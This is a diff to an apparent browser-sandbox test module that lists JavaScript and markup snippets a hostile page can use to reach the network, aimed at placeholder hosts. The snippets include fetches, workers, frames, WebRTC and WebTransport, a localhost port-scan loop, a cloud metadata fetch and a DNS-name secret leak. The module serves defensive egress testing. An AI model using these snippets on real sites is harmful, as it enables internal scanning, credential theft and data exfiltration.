@@ -6,31 +6,25 @@ addresses of no network, `@name@` for a name that nobody has, and `@away@` for a
 server. All of them are heard where nothing holds a page back.
 """
 
-from sites.hostile.way import Way
+from dataclasses import replace
+
+from sites.hostile.document_ways import MARKUP, STYLES
+from sites.hostile.way import NO_CORS, Way, worker_way
+from sites.hostile.window_ways import DOWNLOADS, QUESTIONS, UPLOADS, WINDOWS
+from sites.hostile.worker_ways import SERVICE_WORKERS, WORKERS
 
 HOST = "ways.localhost"
 ORIGIN = f"http://{HOST}"
 
-_NO = "{mode:'no-cors'}"
 
-
-def _worker(script: str, *, kind: str = "Worker", options: str = "{}") -> Way:
-    return Way(
-        f'new {kind}(URL.createObjectURL(new Blob([`{script}`],{{type:"text/javascript"}})),{options})'
-    )
-
-
-def _head(markup: str) -> Way:
-    return Way(f"document.head.insertAdjacentHTML('beforeend',`{markup}`)")
-
-
-def _webrtc(server: str, *, abroad: bool = False) -> Way:
+def _webrtc(server: str, *, abroad: bool = False, before: str = "", where: str = "") -> Way:
     one = f"{{urls:'{server}',username:'a',credential:'b'}}"
     return Way(
-        f"const pc=new RTCPeerConnection({{iceServers:[{one}]}});pc.createDataChannel('x');"
+        f"{before}const pc=new {where}RTCPeerConnection({{iceServers:[{one}]}});pc.createDataChannel('x');"
         "window.kept=pc;pc.createOffer().then(offer=>pc.setLocalDescription(offer))",
         datagrams=True,
         abroad=abroad,
+        long="open(" in before,
     )
 
 
@@ -40,13 +34,13 @@ await b.setLocalDescription(await b.createAnswer());await a.setRemoteDescription
 await a.addIceCandidate({candidate:'candidate:1 1 %s',sdpMid:'0'})})()"""
 
 SCRIPTS = {
-    "fetch": Way(f"fetch('http://@tcp@/',{_NO}).catch(()=>0)"),
-    "fetch-tls": Way(f"fetch('https://@tcp@/',{_NO}).catch(()=>0)"),
+    "fetch": Way(f"fetch('http://@tcp@/',{NO_CORS}).catch(()=>0)"),
+    "fetch-tls": Way(f"fetch('https://@tcp@/',{NO_CORS}).catch(()=>0)"),
     "fetch-post": Way(
         "fetch('http://@tcp@/',{method:'POST',mode:'no-cors',body:'x'.repeat(9999)}).catch(()=>0)"
     ),
     "fetch-preflight": Way("fetch('http://@tcp@/',{headers:{'X-Odd':'1'}}).catch(()=>0)"),
-    "fetch-user": Way(f"fetch(new Request('http://@tcp@/?secret',{_NO})).catch(()=>0)"),
+    "fetch-user": Way(f"fetch(new Request('http://@tcp@/?secret',{NO_CORS})).catch(()=>0)"),
     "xhr": Way("const x=new XMLHttpRequest();x.open('GET','http://@tcp@/');x.send()"),
     "xhr-sync": Way(
         "const x=new XMLHttpRequest();x.open('GET','http://@tcp@/',false);try{x.send()}catch{}"
@@ -71,30 +65,33 @@ SCRIPTS = {
         "document.head.append(Object.assign(document.createElement('script'),{type:'module',src:'http://@tcp@/'}))"
     ),
     "written-script": Way("document.write('<script src=http://@tcp@/><\\/script>')"),
-    "wasm-stream": Way(f"WebAssembly.compileStreaming(fetch('http://@tcp@/',{_NO})).catch(()=>0)"),
+    "wasm-stream": Way(
+        f"WebAssembly.compileStreaming(fetch('http://@tcp@/',{NO_CORS})).catch(()=>0)"
+    ),
     "audio-worklet": Way(
         "new OfflineAudioContext(1,1,8000).audioWorklet.addModule('http://@tcp@/').catch(()=>0)"
     ),
     "paint-worklet": Way("CSS.paintWorklet.addModule('http://@tcp@/').catch(()=>0)"),
-    "scan": Way(f"for(let n=1;n<9;n++)fetch(`http://127.0.0.${{n}}:@port@/`,{_NO}).catch(()=>0)"),
+    "scan": Way(
+        f"for(let n=1;n<9;n++)fetch(`http://127.0.0.${{n}}:@port@/`,{NO_CORS}).catch(()=>0)"
+    ),
+    "fetch-later": Way("fetchLater('http://@tcp@/',{activateAfter:0})", top=True),
+    "fetch-later-at-the-end": Way(
+        "fetchLater('http://@tcp@/');setTimeout(()=>location.href='/blank',50)", top=True
+    ),
+    "import-of-a-style": Way("import('http://@tcp@/',{with:{type:'css'}}).catch(()=>0)"),
+    "import-of-data": Way("import('http://@tcp@/',{with:{type:'json'}}).catch(()=>0)"),
+    "cache": Way(
+        f"caches.open('x').then(c=>c.add(new Request('http://@tcp@/',{NO_CORS}))).catch(()=>0)"
+    ),
+    "websocket-of-a-protocol": Way("new WebSocket('ws://@tcp@/',['odd','secret'])"),
+    "websocket-by-http": Way("new WebSocket('http://@tcp@/')"),
+    "websocket-stream": Way("new WebSocketStream('ws://@tcp@/').opened.catch(()=>0)"),
+    "identity": Way(
+        "navigator.credentials.get({identity:{providers:[{configURL:'https://@tcp@/c.json',clientId:'x'}]}}).catch(()=>0)"
+    ),
 }
 """Requests that scripts make."""
-
-WORKERS = {
-    "worker-fetch": _worker(f"fetch('http://@tcp@/',{_NO})"),
-    "worker-websocket": _worker("new WebSocket('ws://@tcp@/')"),
-    "worker-event-source": _worker("new EventSource('http://@tcp@/')"),
-    "worker-scripts": _worker("importScripts('http://@tcp@/')"),
-    "worker-xhr": _worker(
-        "x=new XMLHttpRequest();x.open('GET','http://@tcp@/',false);try{x.send()}catch{}"
-    ),
-    "worker-module": _worker("import 'http://@tcp@/'", options="{type:'module'}"),
-    "worker-in-worker": _worker(
-        'new Worker(URL.createObjectURL(new Blob([\'fetch("http://@tcp@/",{mode:"no-cors"})\'])))'
-    ),
-    "shared-worker": _worker(f"fetch('http://@tcp@/',{_NO})", kind="SharedWorker"),
-}
-"""Requests of workers."""
 
 FRAMES = {
     "frame": Way(markup="<iframe src=http://@tcp@/></iframe>"),
@@ -107,6 +104,26 @@ FRAMES = {
     "frame-sandboxed": Way(
         markup="<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('http://@tcp@/',{mode:'no-cors'})</script>\"></iframe>"
     ),
+    "frame-of-nothing": Way(
+        "const f=document.createElement('iframe');document.body.append(f);"
+        f"f.contentWindow.fetch('http://@tcp@/',{NO_CORS}).catch(()=>0)"
+    ),
+    "frame-of-xml": Way(
+        "const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(["
+        "`<?xml-stylesheet type='text/css' href='http://@tcp@/'?><x/>`],{type:'text/xml'}));document.body.append(f)"
+    ),
+    "frame-of-a-set": Way(
+        markup="<iframe srcdoc='<frameset><frame src=http://@tcp@/></frameset>'></iframe>"
+    ),
+    "frame-without-credentials": Way(markup="<iframe credentialless src=http://@tcp@/></iframe>"),
+    "frame-by-and-by": Way(markup="<iframe loading=lazy src=http://@tcp@/></iframe>"),
+    "frame-of-a-sandboxed-socket": Way(
+        markup="<iframe sandbox=allow-scripts srcdoc=\"<script>new WebSocket('ws://@tcp@/')</script>\"></iframe>"
+    ),
+    "parent": Way(
+        markup="<iframe srcdoc=\"<script>parent.location='http://@tcp@/'</script>\"></iframe>"
+    ),
+    "navigation": Way("setTimeout(()=>navigation.navigate('http://@tcp@/'),50)"),
     "object": Way(markup="<object data=http://@tcp@/></object>"),
     "embed": Way(markup="<embed src=http://@tcp@/>"),
     "form-post": Way(
@@ -121,11 +138,11 @@ FRAMES = {
         "document.querySelector('form button').click()",
         "<iframe name=f></iframe><form target=f><button formaction=http://@tcp@/></button></form>",
     ),
-    "window": Way("open('http://@tcp@/')"),
-    "window-alone": Way("open('http://@tcp@/','_blank','noopener')"),
+    "window": Way("open('http://@tcp@/')", top=True),
+    "window-alone": Way("open('http://@tcp@/','_blank','noopener')", top=True),
     "link": Way("document.links[0].click()", "<a href=http://@tcp@/>away</a>"),
     "link-in-a-window": Way(
-        "document.links[0].click()", "<a target=_blank href=http://@tcp@/>x</a>"
+        "document.links[0].click()", "<a target=_blank href=http://@tcp@/>x</a>", top=True
     ),
     "ping": Way("document.links[0].click()", "<a href=#x ping=http://@tcp@/>x</a>"),
     "location": Way("setTimeout(()=>location.href='http://@tcp@/',50)"),
@@ -133,10 +150,10 @@ FRAMES = {
     "refresh-in-the-page": Way(markup="<meta http-equiv=refresh content='0;url=http://@tcp@/'>"),
     "refresh-in-a-header": Way(headers={"Refresh": "0;url=http://@tcp@/"}),
 }
-"""Documents, windows and forms."""
+"""Documents and frames, forms and links."""
 
 REDIRECTS = {
-    "redirected-fetch": Way(f"fetch('@away@',{_NO}).catch(()=>0)"),
+    "redirected-fetch": Way(f"fetch('@away@',{NO_CORS}).catch(()=>0)"),
     "redirected-post": Way(
         "fetch('@away@&code=307',{method:'POST',mode:'no-cors',body:'secret'}).catch(()=>0)"
     ),
@@ -149,80 +166,39 @@ REDIRECTS = {
 }
 """By way of the site itself."""
 
-MARKUP = {
-    "image": Way(markup="<img src=http://@tcp@/>"),
-    "image-set": Way(markup="<img srcset='http://@tcp@/ 1x'>"),
-    "picture": Way(markup="<picture><source srcset=http://@tcp@/><img></picture>"),
-    "image-button": Way(markup="<input type=image src=http://@tcp@/>"),
-    "background-attribute": Way(markup="<table background=http://@tcp@/><tr><td>x</table>"),
-    "video": Way(markup="<video src=http://@tcp@/ autoplay muted></video>"),
-    "audio": Way("new Audio('http://@tcp@/').load()"),
-    "poster": Way(markup="<video poster=http://@tcp@/></video>"),
-    "subtitles": Way(
-        "document.querySelector('track').track.mode='showing'",
-        "<video crossorigin src=/blank><track default kind=captions src=http://@tcp@/></video>",
-    ),
-    "stylesheet": Way(markup="<link rel=stylesheet href=http://@tcp@/>"),
-    "style-import": Way(markup="<style>@import 'http://@tcp@/';</style>"),
-    "style-background": Way(
-        markup="<div style='width:9px;height:9px;background:url(http://@tcp@/)'>"
-    ),
-    "style-content": Way(markup="<style>p::before{content:url(http://@tcp@/)}</style><p>x"),
-    "style-list": Way(markup="<ul style='list-style-image:url(http://@tcp@/)'><li>x</ul>"),
-    "style-mask": Way(
-        markup="<div style='width:9px;height:9px;background:red;mask-image:url(http://@tcp@/)'>"
-    ),
-    "style-border": Way(
-        markup="<div style='border:9px solid;border-image:url(http://@tcp@/) 9'>x</div>"
-    ),
-    "style-font": Way(
-        markup="<style>@font-face{font-family:odd;src:url(http://@tcp@/)}p{font-family:odd}</style><p>x"
-    ),
-    "svg-image": Way(markup="<svg><image href=http://@tcp@/ width=9 height=9 /></svg>"),
-    "svg-filter": Way(
-        markup="<svg><filter id=f><feImage href=http://@tcp@/ /></filter><rect width=9 height=9 filter=url(#f) /></svg>"
-    ),
-    "preload": _head("<link rel=preload as=image href=http://@tcp@/>"),
-    "preload-of-a-module": _head("<link rel=modulepreload href=http://@tcp@/>"),
-    "prefetch": _head("<link rel=prefetch href=http://@tcp@/>"),
-    "preload-in-a-header": Way(headers={"Link": "<http://@tcp@/>; rel=preload; as=script"}),
-    "report-of-a-policy": Way(
-        markup="<img src=/blank>",
-        headers={"Content-Security-Policy": "img-src 'none'; report-uri http://@tcp@/"},
-    ),
-    "speculation": Way(
-        "const s=document.createElement('script');s.type='speculationrules';"
-        "s.textContent=JSON.stringify({prefetch:[{source:'list',urls:['http://@tcp@/']}]});document.head.append(s)",
-        top=True,
-        direct=True,
-    ),
-}
-"""What a document names, in markup, styles and headers."""
-
 NAMES = {
-    "localhost": Way(f"fetch('http://localhost:@port@/',{_NO}).catch(()=>0)"),
-    "localhost-dot": Way(f"fetch('http://localhost.:@port@/',{_NO}).catch(()=>0)"),
-    "any.localhost": Way(f"fetch('http://odd.localhost:@port@/',{_NO}).catch(()=>0)"),
+    "localhost": Way(f"fetch('http://localhost:@port@/',{NO_CORS}).catch(()=>0)"),
+    "localhost-dot": Way(f"fetch('http://localhost.:@port@/',{NO_CORS}).catch(()=>0)"),
+    "any.localhost": Way(f"fetch('http://odd.localhost:@port@/',{NO_CORS}).catch(()=>0)"),
     "zero": Way(
         markup="<form action=http://0.0.0.0:@port@/></form>", script="document.forms[0].submit()"
     ),
-    "decimal": Way(f"fetch('http://2130706433:@port@/',{_NO}).catch(()=>0)"),
-    "hexadecimal": Way(f"fetch('http://0x7f000001:@port@/',{_NO}).catch(()=>0)"),
-    "octal": Way(f"fetch('http://0177.0.0.1:@port@/',{_NO}).catch(()=>0)"),
-    "short": Way(f"fetch('http://127.1:@port@/',{_NO}).catch(()=>0)"),
-    "second-loopback": Way(f"fetch('http://127.0.0.2:@port@/',{_NO}).catch(()=>0)"),
-    "far-loopback": Way(f"fetch('http://127.255.255.254:@port@/',{_NO}).catch(()=>0)"),
-    "loopback-of-six": Way(f"fetch('http://[::1]:@port@/',{_NO}).catch(()=>0)"),
-    "mapped": Way(f"fetch('http://[::ffff:127.0.0.1]:@port@/',{_NO}).catch(()=>0)"),
+    "decimal": Way(f"fetch('http://2130706433:@port@/',{NO_CORS}).catch(()=>0)"),
+    "hexadecimal": Way(f"fetch('http://0x7f000001:@port@/',{NO_CORS}).catch(()=>0)"),
+    "octal": Way(f"fetch('http://0177.0.0.1:@port@/',{NO_CORS}).catch(()=>0)"),
+    "short": Way(f"fetch('http://127.1:@port@/',{NO_CORS}).catch(()=>0)"),
+    "second-loopback": Way(f"fetch('http://127.0.0.2:@port@/',{NO_CORS}).catch(()=>0)"),
+    "far-loopback": Way(f"fetch('http://127.255.255.254:@port@/',{NO_CORS}).catch(()=>0)"),
+    "loopback-of-six": Way(f"fetch('http://[::1]:@port@/',{NO_CORS}).catch(()=>0)"),
+    "mapped": Way(f"fetch('http://[::ffff:127.0.0.1]:@port@/',{NO_CORS}).catch(()=>0)"),
     "user-and-password": Way(
         "setTimeout(()=>location.href='http://ways.localhost:80@@tcp@/',50)", top=True
     ),
-    "abroad": Way(f"fetch('http://@foreign@/',{_NO}).catch(()=>0)", abroad=True),
-    "abroad-tls": Way(f"fetch('https://@foreign@/',{_NO}).catch(()=>0)", abroad=True),
-    "abroad-by-six": Way(f"fetch('http://[@foreign6@]/',{_NO}).catch(()=>0)", abroad=True),
-    "metadata": Way(f"fetch('http://@near@/latest/meta-data/',{_NO}).catch(()=>0)", abroad=True),
-    "name": Way(f"fetch('http://@name@/',{_NO}).catch(()=>0)", abroad=True),
+    "abroad": Way(f"fetch('http://@foreign@/',{NO_CORS}).catch(()=>0)", abroad=True),
+    "abroad-tls": Way(f"fetch('https://@foreign@/',{NO_CORS}).catch(()=>0)", abroad=True),
+    "abroad-by-six": Way(f"fetch('http://[@foreign6@]/',{NO_CORS}).catch(()=>0)", abroad=True),
+    "metadata": Way(
+        f"fetch('http://@near@/latest/meta-data/',{NO_CORS}).catch(()=>0)", abroad=True
+    ),
+    "name": Way(f"fetch('http://@name@/',{NO_CORS}).catch(()=>0)", abroad=True),
     "name-of-a-socket": Way("new WebSocket('wss://@name@/')", abroad=True),
+    "name-of-the-near-network": Way(
+        f"fetch('http://@name@.local/',{NO_CORS}).catch(()=>0)", abroad=True
+    ),
+    "name-of-a-key": Way(
+        "navigator.credentials.get({publicKey:{challenge:new Uint8Array(32),rpId:'@name@'}}).catch(()=>0)",
+        abroad=True,
+    ),
     "name-with-a-secret": Way("new Image().src='http://s-e-c-r-e-t.@name@/'", abroad=True),
 }
 """Addresses as they may be written, and names."""
@@ -231,17 +207,53 @@ DATAGRAMS = {
     "webtransport": Way(
         "new WebTransport('https://127.0.0.1:@udp@/').ready.catch(()=>0)", datagrams=True
     ),
+    "webtransport-by-hash": Way(
+        "new WebTransport('https://127.0.0.1:@udp@/',{serverCertificateHashes:"
+        "[{algorithm:'sha-256',value:new Uint8Array(32)}]}).ready.catch(()=>0)",
+        datagrams=True,
+    ),
+    "webtransport-of-a-worker": replace(
+        worker_way("new WebTransport('https://127.0.0.1:@udp@/').ready.catch(()=>0)"),
+        datagrams=True,
+    ),
     "stun": _webrtc("stun:127.0.0.1:@udp@"),
     "stun-abroad": _webrtc("stun:@foreign@:3478", abroad=True),
+    "stun-of-a-window": _webrtc("stun:127.0.0.1:@udp@", before="const w=open('');", where="w."),
+    "stun-of-a-sandbox": Way(
+        markup='<iframe sandbox=allow-scripts srcdoc="<script>const pc=new RTCPeerConnection({iceServers:'
+        "[{urls:'stun:127.0.0.1:@udp@'}]});pc.createDataChannel('x');window.kept=pc;"
+        'pc.createOffer().then(offer=>pc.setLocalDescription(offer))</script>"></iframe>',
+        datagrams=True,
+    ),
     "turn": _webrtc("turn:127.0.0.1:@udp@?transport=udp"),
     "turn-by-tcp": _webrtc("turn:@tcp@?transport=tcp"),
     "turn-by-tls": _webrtc("turns:@tcp@?transport=tcp"),
     "candidate": Way(_CANDIDATES % "UDP 2130706431 127.0.0.1 @udp@ typ host", datagrams=True),
+    "candidate-by-name": Way(
+        _CANDIDATES % "UDP 2130706431 @name@ @udp@ typ host", datagrams=True, abroad=True
+    ),
+    "candidate-of-the-near-network": Way(
+        _CANDIDATES % "UDP 2130706431 @name@.local @udp@ typ host", datagrams=True, abroad=True
+    ),
     "candidate-by-tcp": Way(
         _CANDIDATES % "TCP 2130706431 127.0.0.1 @port@ typ host tcptype passive", datagrams=True
     ),
 }
 """WebRTC and QUIC, which go past what is set up for requests."""
 
-WAYS: dict[str, Way] = SCRIPTS | WORKERS | FRAMES | REDIRECTS | MARKUP | NAMES | DATAGRAMS
+WAYS: dict[str, Way] = {
+    **SCRIPTS,
+    **WORKERS,
+    **SERVICE_WORKERS,
+    **FRAMES,
+    **WINDOWS,
+    **DOWNLOADS,
+    **UPLOADS,
+    **QUESTIONS,
+    **REDIRECTS,
+    **MARKUP,
+    **STYLES,
+    **NAMES,
+    **DATAGRAMS,
+}
 """All of them, by name."""
